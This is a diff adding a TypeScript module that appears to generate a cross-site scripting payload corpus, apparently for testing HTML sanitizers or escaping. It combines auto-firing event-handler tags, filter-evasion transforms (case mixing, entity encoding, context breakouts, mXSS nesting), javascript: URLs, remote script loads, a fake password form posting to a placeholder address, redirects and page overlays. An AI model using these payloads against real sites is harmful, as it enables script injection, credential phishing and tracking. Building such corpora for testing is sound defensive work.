@@ -1,0 +1,108 @@
+/** Markup that runs a script or takes the page over, were it taken as markup. */
+import { asEntities, each, type Sketch } from '../sketch.ts';
+
+/** Run by themselves as soon as they are in a page. */
+const handlers: readonly Sketch[] = [
+  (code) => `<img src=x onerror=${code}>`,
+  (code) => `<svg onload=${code}></svg>`,
+  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s></svg>`,
+  (code) => `<details open ontoggle=${code}>x</details>`,
+  (code) => `<video><source onerror=${code}></video>`,
+  (code) => `<audio src=x onerror=${code}></audio>`,
+  (code) => `<input autofocus onfocus=${code}>`,
+  (code) => `<style onload=${code}></style>`,
+  (code) => `<iframe onload=${code}></iframe>`,
+  (code) => `<object data=x onerror=${code}></object>`,
+  (code) => `<body onload=${code}>`,
+  (code) => `<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=${code}>`,
+];
+
+const ways: readonly ((text: string) => string)[] = [
+  (text) => text,
+  (text) => text.replace(/<(\w+)/g, (tag) => tag.toUpperCase()),
+  (text) => text.replace(/ on(\w)/, (_, letter: string) => ` oN${letter.toUpperCase()}`),
+  (text) => text.replace(/ (?=\w+=)/g, '/'),
+  (text) => text.replace(/ (?=\w+=)/g, '\n'),
+  (text) => text.replace(/ (?=\w+=)/g, '\t\f'),
+  (text) => text.replace(/(on\w+)=([^\s>]+)/, '$1="$2"'),
+  (text) => text.replace(/(on\w+)=([^\s>]+)/, "$1 = '$2'"),
+  (text) =>
+    text.replace(/(on\w+)=([^\s>]+)/, (_, name: string, code: string) => `${name}=${asEntities(code)}`),
+  (text) =>
+    text.replace(/(on\w+)=([^\s>]+)/, (_, name: string, code: string) => `${name}=${asEntities(code, true)}`),
+  (text) => `"><!-- -->${text}`,
+  (text) => `--></textarea></title></code></pre></style>${text}`,
+  (text) => `<math><mtext><table><mglyph><style>${text}</style></mglyph></table></mtext></math>`,
+  (text) => `<noscript><p title="</noscript>${text}">`,
+  (text) => text.replace(/>$/, ''),
+  (text) => `<${text}`,
+  (text) => text.replace('<', '<\u0000'),
+  (text) => `<div>\n\n${text}\n\n</div>`,
+  (text) => `<p align="center" title='a\n${text}'>`,
+  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+  (text) => text.replaceAll('<', '\\<'),
+];
+
+/** Whole elements: those that run, that load, that send, that lead away, or that lie over the window. */
+const elements: readonly Sketch[] = [
+  (code) => `<script>${code}</script>`,
+  (code) => `<ScRiPt >${code}</sCrIpT\n>`,
+  (code) => `<script>/*\n\n*/${code}</script>`,
+  (_, address) => `<script src="${address}.js"></script>`,
+  (code) => `<script src="data:text/javascript,${code}"></script>`,
+  (code) => `<script type=module>${code}</script>`,
+  (code) => `<svg><script>${code}</script></svg>`,
+  (code) => `<svg><script href="data:,${code}"></script></svg>`,
+  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
+  (code) => `<iframe srcdoc='&lt;img src=x onerror=${code}&gt;'></iframe>`,
+  (code) => `<iframe src="javascript:${code}"></iframe>`,
+  (_, address) => `<iframe src="${address}"></iframe>`,
+  (code) => `<object data="javascript:${code}"></object>`,
+  (_, address) => `<object data="${address}"></object><embed src="${address}">`,
+  (code) => `<embed src="javascript:${code}">`,
+  (code) => `<a href="javascript:${code}">x</a>`,
+  (code) => `<a href="https://ok.example" onclick="${code};return false">x</a>`,
+  (code) => `<a href="https://ok.example" onmouseover="${code}" style="position:fixed;inset:0">x</a>`,
+  (code) => `<svg><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
+  (code) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${code}>#x"></use></svg>`,
+  (code) => `<math><maction actiontype="statusline" xlink:href="javascript:${code}">x</maction></math>`,
+  (code) => `<math href="javascript:${code}">x</math>`,
+  (code) => `<form action="javascript:${code}"><button>x</button></form>`,
+  (code) => `<form><button formaction="javascript:${code}">x</button></form>`,
+  (code) => `<form id=f></form><input type=submit form=f formaction="javascript:${code}">`,
+  (_, address) =>
+    `<form action="${address}"><input name=password type=password><button>Sign in</button></form>`,
+  (_, address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
+  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
+  (_, address) => `<base href="${address}/">`,
+  (_, address) => `<base target=_blank href="${address}/">`,
+  (_, address) => `<link rel=stylesheet href="${address}.css">`,
+  (_, address) => `<link rel=prefetch href="${address}"><link rel=dns-prefetch href="${address}">`,
+  (_, address) => `<link rel=preload as=image href="${address}.png">`,
+  (_, address) => `<style>@import "${address}.css"; body { display: none }</style>`,
+  (_, address) => `<div style="background: url(${address}.png)">x</div>`,
+  () => `<div style="position:fixed;inset:0;background:red;z-index:9999">overlay</div>`,
+  (_, address) => `<img src="${address}.png" srcset="${address}-2.png 2x">`,
+  (_, address) => `<picture><source srcset="${address}.webp"><img src="${address}.png"></picture>`,
+  (_, address) => `<video src="${address}.mp4" poster="${address}.png" autoplay></video>`,
+  (_, address) => `<audio src="${address}.mp3" autoplay></audio><track src="${address}.vtt">`,
+  (_, address) => `<a href="https://ok.example" ping="${address}">x</a>`,
+  (_, address) => `<svg><image href="${address}.png"/><feImage href="${address}.svg"/></svg>`,
+  (_, address) =>
+    `<table background="${address}.png"><tr><td background="${address}.png">x</td></tr></table>`,
+  (code) => `<template><img src=x onerror=${code}></template>`,
+  (code) => `<xmp><img src=x onerror=${code}></xmp>`,
+  (code) => `<p>&lt;img src=x onerror=${code}&gt;</p><img src=x onerror=${code}`,
+  (code) => `<![CDATA[<img src=x onerror=${code}>]]>`,
+  (code) => `<?xml-stylesheet href="javascript:${code}"?>`,
+  (code) => `<!DOCTYPE html [<!ENTITY x "<img src=x onerror=${code}>">]>&x;`,
+  (code) => `<!--><img src=x onerror=${code}>-->`,
+  (code) =>
+    `<button popovertarget=p onclick=${code}>x</button><div popover id=p onbeforetoggle=${code}>y</div>`,
+  (code) => `<x contenteditable onblur=${code} tabindex=1>x</x>`,
+  (code) => `<marquee onstart=${code} behavior=alternate>x</marquee>`,
+  (code) => `<div onclick=${code} style="width:100vw;height:100vh">x</div>`,
+  (code) => `<label onclick=${code}>x</label>`,
+];
+
+export const markup: readonly Sketch[] = [...each(handlers, ways), ...elements];
